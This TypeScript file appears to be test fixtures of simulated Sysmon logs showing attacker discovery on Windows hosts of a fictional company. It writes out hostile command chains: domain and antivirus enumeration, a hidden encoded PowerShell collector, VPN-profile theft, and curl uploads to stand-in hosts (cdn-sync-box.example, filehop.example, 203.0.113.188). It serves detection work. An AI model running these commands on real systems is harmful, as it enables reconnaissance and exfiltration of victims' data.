/** Windows hosts on which somebody gathers what the client is, as Sysmon sees it. */
import { collector, does, encoded, type Host, run } from "./host.ts";

const temp = "C:\\Users\\nroy\\AppData\\Local\\Temp\\";
const impacket = (command: string, mark: string) =>
  `cmd | cmd.exe /Q /c ${command} 1> \\\\127.0.0.1\\ADMIN$\\__${mark} 2>&1`;
const security =
  "WMIC /Node:localhost /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get * /Format:List";
const gather = `$r=@{};$r.os=(Get-CimInstance Win32_OperatingSystem|select Caption,Version,InstallDate);$r.av=Get-CimInstance -Namespace root\\SecurityCenter2 -ClassName AntivirusProduct;$r.mp=Get-MpPreference|select ExclusionPath,ExclusionProcess;$r.sw=gp HKLM:\\Software\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*|select DisplayName,DisplayVersion;irm https://cdn-sync-box.example/g -Method Post -Body ($r|ConvertTo-Json)`;

export const windowsCollectors: readonly Host[] = [
  collector(
    "sysmon",
    "TAL-MTL-0418",
    "iroy",
    "host-burst",
    "a library run by rundll32 asks for page of code, address, system, workstation, domain, neighbours and protection in a minute",
    [
      ...run("09:41:02", "explorer", [
        'rundll32 | rundll32.exe C:\\Users\\iroy\\AppData\\Local\\Temp\\Nuzahi2.dll,init --ashego="license.dat"',
      ]),
      ...run(
        "09:46:20",
        "rundll32",
        [
          "cmd | cmd.exe /c chcp >&2",
          `wmic | ${security}`,
          "ipconfig | ipconfig /all",
          "systeminfo | systeminfo",
          "net | net config workstation",
          "nltest | nltest /domain_trusts",
          "nltest | nltest /domain_trusts /all_trusts",
          "net | net view /all /domain",
          "net | net view /all",
          'net | net group "Domain Admins" /domain',
        ],
        { gaps: [3, 6, 11, 4] },
      ),
      does("09:47:30", "rundll32", { asks: "vgroupmaster.example" }),
    ],
  ),
  collector(
    "sysmon",
    "TAL-MTL-0421",
    "osoto",
    "host-burst",
    "a reporter of errors that somebody else lives in runs the usual list: rights, settings, neighbours, addresses, sessions",
    run(
      "13:05:11",
      "wermgr",
      [
        "whoami | whoami /all",
        "cmd | cmd /c set",
        "arp | arp -a",
        "ipconfig | ipconfig /all",
        "net | net view",
        "nslookup | nslookup -querytype=ALL -timeout=12 _ldap._tcp.dc._msdcs.TALVERA",
        "net | net share",
        "route | route print",
        "netstat | netstat -nao",
        "net | net localgroup",
        "qwinsta | qwinsta",
      ],
      { gaps: [2, 2, 3] },
    ),
  ),
  collector(
    "sysmon",
    "TAL-MTL-0426",
    "ltremblay",
    "host-script",
    "a script by PowerShell, hidden and encoded, asks for system, protection and its gaps, and programs, and posts them",
    [
      ...run("15:20:40", "explorer", [
        `powershell | "powershell.exe" -NoP -W Hidden -Enc ${encoded(gather)}`,
      ]),
      does("15:20:42", "powershell", { script: gather }),
      does("15:20:55", "powershell", { asks: "cdn-sync-box.example" }),
    ],
  ),
  collector(
    "sysmon",
    "TAL-MTL-0429",
    "nroy",
    "host-vpn",
    "a script looks for profiles and settings of four makers of VPN, copies them and packs them",
    [
      ...run("17:48:03", "explorer", [`wscript | wscript.exe "${temp}invoice_8812.js"`]),
      ...run("17:48:09", "wscript", [
        'reg | reg query "HKLM\\SOFTWARE\\Fortinet\\FortiClient\\Sslvpn\\Tunnels" /s',
        'reg | reg query "HKCU\\Software\\OpenVPN-GUI\\configs" /s',
        'cmd | cmd.exe /c dir /s /b "C:\\Users\\*.ovpn" "C:\\ProgramData\\Cisco\\Cisco Secure Client\\VPN\\Profile\\*.xml"',
        `cmd | cmd.exe /c copy "C:\\Users\\nroy\\AppData\\Roaming\\Microsoft\\Network\\Connections\\Pbk\\rasphone.pbk" ${temp}v\\`,
        `tar | tar.exe -a -c -f ${temp}v.zip ${temp}v`,
        `curl | curl.exe -s -T ${temp}v.zip https://filehop.example/up/TAL-MTL-0429`,
      ]),
      does("17:48:20", "tar", { writes: `${temp}v.zip` }),
      does("17:48:31", "curl", { asks: "filehop.example" }),
    ],
  ),
  collector(
    "sysmon",
    "TAL-SRV-LIMS2",
    "TALVERA\\svc_lims",
    "host-remote",
    "from another machine by WMI, command after command with its answer in a share: system, programs, protection, sessions",
    run(
      "02:12:30",
      "WmiPrvSE",
      [
        impacket("systeminfo", "1764036750.12"),
        impacket("wmic product get name,version", "1764036750.12"),
        impacket(
          "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname",
          "1764036750.12",
        ),
        impacket("quser", "1764036750.12"),
        impacket("ipconfig /all", "1764036750.12"),
        impacket("tasklist /v", "1764036750.12"),
      ],
      { gaps: [9, 14, 6] },
    ),
  ),
  collector(
    "sysmon",
    "TAL-MTL-0433",
    "TALVERA\\backup.op",
    "host-remote",
    "by remote management at night, with an account for backups: patches, programs, browsers and their extensions",
    [
      ...run("23:31:09", "svchost", [
        "C:\\Windows\\System32\\wsmprovhost.exe | C:\\Windows\\System32\\wsmprovhost.exe -Embedding",
      ]),
      does("23:31:14", "wsmprovhost", {
        script:
          "Get-HotFix | Select HotFixID,InstalledOn; Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName,DisplayVersion,Publisher",
      }),
      does("23:31:30", "wsmprovhost", {
        script:
          "Get-ChildItem 'C:\\Users\\*\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Extensions' | Select Name; (Get-Item 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe').VersionInfo.ProductVersion; Get-MpComputerStatus",
      }),
      ...run("23:31:41", "wsmprovhost", [
        'systeminfo | "C:\\Windows\\system32\\systeminfo.exe" /fo csv',
        'netsh | "C:\\Windows\\system32\\netsh.exe" winhttp show proxy',
        'whoami | "C:\\Windows\\system32\\whoami.exe" /groups',
      ]),
    ],
  ),
  collector(
    "sysmon",
    "TAL-MTL-0437",
    "mcote",
    "host-tool",
    "a tool that looks which protection runs, under the name of an update, out of a public folder",
    [
      ...run("11:02:03", "cmd", ["C:\\ProgramData\\upd\\sysupd.exe | C:\\ProgramData\\upd\\sysupd.exe"]).map(
        (step) => ({ ...step, original: "SharpEDRChecker.exe" }),
      ),
      ...run("11:02:40", "cmd", [
        "cmd | cmd.exe /c type C:\\ProgramData\\upd\\o.txt",
        "fltmc | fltmc.exe",
        "sc | sc.exe query type= driver",
        "curl | curl.exe -F f=@C:\\ProgramData\\upd\\o.txt http://203.0.113.188:8443/i",
      ]),
    ],
  ),
  collector(
    "sysmon",
    "TAL-MTL-0440",
    "gnovak",
    "host-macro",
    "a letter's macro saves the report of the system and a list of programs, encodes them and sends them",
    [
      ...run("10:14:20", "winword", [
        `cmd | cmd.exe /c systeminfo > %TEMP%\\i.txt & tasklist >> %TEMP%\\i.txt & wmic qfe get hotfixid >> %TEMP%\\i.txt`,
      ]),
      ...run(
        "10:14:21",
        "cmd",
        [
          "systeminfo | systeminfo",
          "tasklist | tasklist",
          "wmic | wmic  qfe get hotfixid",
          "certutil | certutil -encode C:\\Users\\gnovak\\AppData\\Local\\Temp\\i.txt C:\\Users\\gnovak\\AppData\\Local\\Temp\\i.b64",
          "curl | curl -s -d @C:\\Users\\gnovak\\AppData\\Local\\Temp\\i.b64 https://form-intake.example/a",
        ],
        { gaps: [7, 2, 3] },
      ),
      does("10:14:44", "curl", { asks: "form-intake.example" }),
    ],
  ),
];
